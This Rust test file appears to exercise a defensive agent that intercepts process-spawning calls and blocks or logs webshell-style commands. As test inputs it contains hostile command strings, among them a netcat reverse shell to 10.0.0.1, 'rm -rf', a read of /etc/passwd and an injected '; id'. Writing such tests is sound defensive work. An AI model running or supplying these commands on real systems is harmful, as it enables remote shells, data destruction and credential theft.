//! End-to-end tests for the interception pipeline.
//!
//! Calls go through a fake host exactly as application code would, with the
//! agent's callbacks installed on every primitive.

use std::collections::HashSet;

use shellguard_agent::event::WEBSHELL_MESSAGE;
use shellguard_agent::{AgentConfig, FailureMode, HookSelector};
use shellguard_protocol::{Action, EventKind, InterceptedCall, Primitive, Severity, Value};

use crate::common::*;

const SINGLE_STRING: [Primitive; 5] = [
    Primitive::Run,
    Primitive::RunAndCaptureOutput,
    Primitive::RunDetached,
    Primitive::SpawnProcess,
    Primitive::OpenPipe,
];

// ============================================================================
// Webshell mode
// ============================================================================

#[test]
fn test_backdoor_command_is_suppressed() {
    let dispatcher = RecordingDispatcher::new(Verdict::BlockWebshell);
    let (_agent, host) = installed_agent(
        &AgentConfig::default(),
        request_with(&["rm -rf /tmp/x"]),
        dispatcher.clone(),
    );

    let result = host.run(Primitive::RunAndCaptureOutput, "rm -rf /tmp/x");
    assert_eq!(result, Err(EXECUTION_DENIED.to_string()));
    assert_eq!(host.spawn_count(), 0);

    let events = dispatcher.events();
    assert_eq!(events.len(), 1);
    let event = &events[0];
    assert_eq!(event.event_type, EventKind::WebshellCommand);
    assert_eq!(event.severity, Some(Severity::MAX));
    assert_eq!(event.command(), "rm -rf /tmp/x");
    assert_eq!(event.message.as_deref(), Some(WEBSHELL_MESSAGE));
    assert!(event.stack().is_none());

    let json = serde_json::to_value(event).unwrap();
    assert!(json["parameters"].get("stack").is_none());
}

#[test]
fn test_tainted_command_on_every_single_string_primitive() {
    for primitive in SINGLE_STRING {
        let dispatcher = RecordingDispatcher::new(Verdict::Always(Action::Log));
        let (_agent, host) = installed_agent(
            &AgentConfig::default(),
            request_with(&["cat /etc/passwd"]),
            dispatcher.clone(),
        );

        assert!(host.run(primitive, "cat /etc/passwd").is_ok());

        let webshell: Vec<_> = dispatcher
            .events()
            .into_iter()
            .filter(|e| e.event_type == EventKind::WebshellCommand)
            .collect();
        assert_eq!(webshell.len(), 1, "{}", primitive);
        assert_eq!(webshell[0].command(), "cat /etc/passwd");
        assert_eq!(webshell[0].severity, Some(Severity::MAX));
    }
}

#[test]
fn test_untainted_command_has_no_webshell_event() {
    let dispatcher = RecordingDispatcher::new(Verdict::BlockWebshell);
    let (_agent, host) = installed_agent(
        &AgentConfig::default(),
        request_with(&["ping 127.0.0.1"]),
        dispatcher.clone(),
    );

    assert!(host.run(Primitive::Run, "ping 127.0.0.1; id").is_ok());
    assert_eq!(host.spawn_count(), 1);

    let kinds: Vec<_> = dispatcher.events().iter().map(|e| e.event_type).collect();
    assert_eq!(kinds, vec![EventKind::Command]);
}

#[test]
fn test_webshell_mode_ignores_joined_argument_list() {
    let dispatcher = RecordingDispatcher::new(Verdict::BlockWebshell);
    let (_agent, host) = installed_agent(
        &AgentConfig::default(),
        request_with(&["ls -l -a"]),
        dispatcher.clone(),
    );

    let args = vec![Value::from("ls"), Value::from(vec!["-l", "-a"])];
    assert!(host.call(Primitive::ExecWithArgs, args).is_ok());

    let events = dispatcher.events();
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].event_type, EventKind::Command);
    assert_eq!(events[0].command(), "ls -l -a");
}

// ============================================================================
// Policy mode
// ============================================================================

#[test]
fn test_every_call_reports_one_command_event_with_stack() {
    for primitive in Primitive::ALL {
        let dispatcher = RecordingDispatcher::new(Verdict::Always(Action::Allow));
        let (_agent, host) = installed_agent(
            &AgentConfig::default(),
            request_with(&[]),
            dispatcher.clone(),
        );

        assert!(host.run(primitive, "whoami").is_ok());

        let events = dispatcher.events();
        assert_eq!(events.len(), 1, "{}", primitive);
        assert_eq!(events[0].event_type, EventKind::Command);
        assert_eq!(events[0].command(), "whoami");
        assert!(events[0].severity.is_none());
        assert!(events[0].message.is_none());
        assert_eq!(events[0].stack(), Some(&app_stack()));
    }
}

#[test]
fn test_exec_with_args_join() {
    let dispatcher = RecordingDispatcher::new(Verdict::Always(Action::Log));
    let (_agent, host) =
        installed_agent(&AgentConfig::default(), request_with(&[]), dispatcher.clone());

    host.call(
        Primitive::ExecWithArgs,
        vec![Value::from("ls"), Value::from(vec!["-l", "-a"])],
    )
    .unwrap();
    host.call(
        Primitive::ExecWithArgs,
        vec![Value::from("ls"), Value::List(vec![])],
    )
    .unwrap();

    let commands: Vec<_> = dispatcher
        .events()
        .iter()
        .map(|e| e.command().to_string())
        .collect();
    assert_eq!(commands, vec!["ls -l -a", "ls"]);
}

#[test]
fn test_stack_depth_is_bounded() {
    let config = AgentConfig {
        max_stack_depth: 1,
        ..AgentConfig::default()
    };
    let dispatcher = RecordingDispatcher::new(Verdict::Always(Action::Log));
    let (_agent, host) = installed_agent(&config, request_with(&[]), dispatcher.clone());

    host.run(Primitive::Run, "id").unwrap();

    let events = dispatcher.events();
    assert_eq!(events[0].stack().map(|s| s.len()), Some(1));
}

// ============================================================================
// Argument edge cases
// ============================================================================

#[test]
fn test_zero_arguments_are_a_no_op() {
    let dispatcher = RecordingDispatcher::new(Verdict::Always(Action::Block));
    let (_agent, host) =
        installed_agent(&AgentConfig::default(), request_with(&[""]), dispatcher.clone());

    for primitive in Primitive::ALL {
        assert!(host.call(primitive, vec![]).is_ok());
    }
    assert!(dispatcher.events().is_empty());
    assert_eq!(host.spawn_count(), Primitive::ALL.len());
}

#[test]
fn test_non_string_command_is_a_no_op() {
    let dispatcher = RecordingDispatcher::new(Verdict::Always(Action::Block));
    let (_agent, host) =
        installed_agent(&AgentConfig::default(), request_with(&["1"]), dispatcher.clone());

    assert!(host.call(Primitive::Run, vec![Value::Int(1)]).is_ok());
    assert!(host
        .call(
            Primitive::ExecWithArgs,
            vec![Value::from("ls"), Value::from("-l")]
        )
        .is_ok());
    assert!(dispatcher.events().is_empty());
}

// ============================================================================
// Decisions
// ============================================================================

#[test]
fn test_policy_block_suppresses_spawn() {
    let dispatcher = RecordingDispatcher::new(Verdict::Always(Action::Block));
    let (_agent, host) =
        installed_agent(&AgentConfig::default(), request_with(&[]), dispatcher.clone());

    assert_eq!(
        host.run(Primitive::SpawnProcess, "nc -e /bin/sh 10.0.0.1 4444"),
        Err(EXECUTION_DENIED.to_string())
    );
    assert_eq!(host.spawn_count(), 0);
}

#[test]
fn test_log_and_allow_let_the_call_run() {
    for action in [Action::Allow, Action::Log] {
        let dispatcher = RecordingDispatcher::new(Verdict::Always(action));
        let (_agent, host) = installed_agent(
            &AgentConfig::default(),
            request_with(&["id"]),
            dispatcher.clone(),
        );

        assert!(host.run(Primitive::Run, "id").is_ok());
        assert_eq!(host.spawn_count(), 1);
        assert_eq!(dispatcher.events().len(), 2);
    }
}

#[test]
fn test_replayed_call_yields_identical_events() {
    let dispatcher = RecordingDispatcher::new(Verdict::Always(Action::Log));
    let (agent, _host) = installed_agent(
        &AgentConfig::default(),
        request_with(&["uname -a"]),
        dispatcher.clone(),
    );

    let call = InterceptedCall::new(Primitive::OpenPipe, vec![Value::from("uname -a")]);
    agent.on_call(&call);
    let first = dispatcher.events();
    dispatcher.clear();
    agent.on_call(&call);
    let second = dispatcher.events();

    assert_eq!(first.len(), 2);
    assert_eq!(first, second);
}

// ============================================================================
// Collaborator failures
// ============================================================================

#[test]
fn test_dispatcher_failure_fails_open() {
    let dispatcher = RecordingDispatcher::new(Verdict::Unavailable);
    let (_agent, host) = installed_agent(
        &AgentConfig::default(),
        request_with(&["id"]),
        dispatcher.clone(),
    );

    assert!(host.run(Primitive::Run, "id").is_ok());
    assert_eq!(host.spawn_count(), 1);
}

#[test]
fn test_dispatcher_failure_fails_closed_when_configured() {
    let config = AgentConfig {
        failure_mode: FailureMode::Closed,
        ..AgentConfig::default()
    };
    let dispatcher = RecordingDispatcher::new(Verdict::Unavailable);
    let (_agent, host) = installed_agent(&config, request_with(&[]), dispatcher.clone());

    assert_eq!(
        host.run(Primitive::Run, "id"),
        Err(EXECUTION_DENIED.to_string())
    );
    assert_eq!(host.spawn_count(), 0);
}

#[test]
fn test_taint_failure_still_runs_policy_check() {
    let dispatcher = RecordingDispatcher::new(Verdict::Always(Action::Log));
    let (_agent, host) =
        installed_agent(&AgentConfig::default(), failing_taint(), dispatcher.clone());

    assert!(host.run(Primitive::Run, "id").is_ok());

    let kinds: Vec<_> = dispatcher.events().iter().map(|e| e.event_type).collect();
    assert_eq!(kinds, vec![EventKind::Command]);
}

// ============================================================================
// Registration
// ============================================================================

#[test]
fn test_all_primitives_hooked() {
    let dispatcher = RecordingDispatcher::new(Verdict::Always(Action::Allow));
    let (agent, host) =
        installed_agent(&AgentConfig::default(), request_with(&[]), dispatcher);

    assert_eq!(agent.hooks().registry().len(), 14);
    assert_eq!(
        host.hooked(),
        Primitive::ALL.into_iter().collect::<HashSet<_>>()
    );
}

#[test]
fn test_ignored_mode_is_not_evaluated() {
    let config = AgentConfig {
        hooks_ignore: vec![HookSelector::try_from("webshell_command".to_string()).unwrap()],
        ..AgentConfig::default()
    };
    let dispatcher = RecordingDispatcher::new(Verdict::BlockWebshell);
    let (_agent, host) = installed_agent(&config, request_with(&["id"]), dispatcher.clone());

    assert!(host.run(Primitive::Run, "id").is_ok());
    let kinds: Vec<_> = dispatcher.events().iter().map(|e| e.event_type).collect();
    assert_eq!(kinds, vec![EventKind::Command]);
}

#[test]
fn test_ignored_primitive_is_not_hooked() {
    let config = AgentConfig::from_yaml("hooks_ignore: [open-pipe]\n").unwrap();
    let dispatcher = RecordingDispatcher::new(Verdict::Always(Action::Block));
    let (_agent, host) = installed_agent(&config, request_with(&[]), dispatcher.clone());

    assert!(!host.hooked().contains(&Primitive::OpenPipe));
    assert!(host.run(Primitive::OpenPipe, "id").is_ok());
    assert!(dispatcher.events().is_empty());
}

#[test]
fn test_install_skips_missing_primitives() {
    let dispatcher = RecordingDispatcher::new(Verdict::Always(Action::Allow));
    let agent = shellguard_agent::Agent::new(
        &AgentConfig::default(),
        request_with(&[]),
        fixed_stack(app_stack()),
        dispatcher,
    );

    let mut host = FakeHost::without(&[Primitive::ReplaceProcessImage]);
    let installed = agent.install(&mut host).unwrap();
    assert_eq!(installed.len(), 6);
    assert!(!installed.contains(&Primitive::ReplaceProcessImage));

    let mut bare = FakeHost::without(&Primitive::ALL);
    assert!(agent.install(&mut bare).is_err());
}
